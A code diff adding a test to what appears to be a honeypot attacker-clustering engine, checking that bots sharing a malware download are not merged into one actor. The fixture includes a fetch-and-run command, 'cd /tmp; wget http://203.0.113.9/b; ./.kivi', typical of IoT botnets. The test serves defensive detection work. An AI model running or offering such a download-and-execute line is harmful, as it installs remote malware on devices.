@@ -118,6 +118,15 @@ def test_bots_of_one_family_are_not_one_though_they_fetch_the_same_file_from_the
     assert several(engine) == set()
 
 
+def test_a_small_botnet_is_not_one_either_but_who_uses_a_file_of_their_own_is(engine: Engine) -> None:
+    bots = [f"198.51.{number}.7" for number in range(6)]
+    lines = [command(text) for text in ("enable", "/bin/busybox KIVI", "cd /tmp; wget http://203.0.113.9/b; ./.kivi")]
+    shown = [(each, one) for each in bots for one in (*lines, file("b" * 64), hassh("of the device"))]
+    shown += [(each, file("a" * 64)) for each in (A, B)]
+    Follower(engine).run([event(each, one, 86_400 * place) for place, (each, one) in enumerate(shown)])
+    assert several(engine) == groups([A, B])
+
+
 def test_a_script_joins_once_those_who_run_it_are_known_to_be_one(engine: Engine) -> None:
     known = [f"198.51.100.{number}" for number in range(1, 13)]
     script = [command(text) for text in ("mkdir .own", "cp own /dev/shm", "pkill rivals-of-mine", "touch mine-alone")]
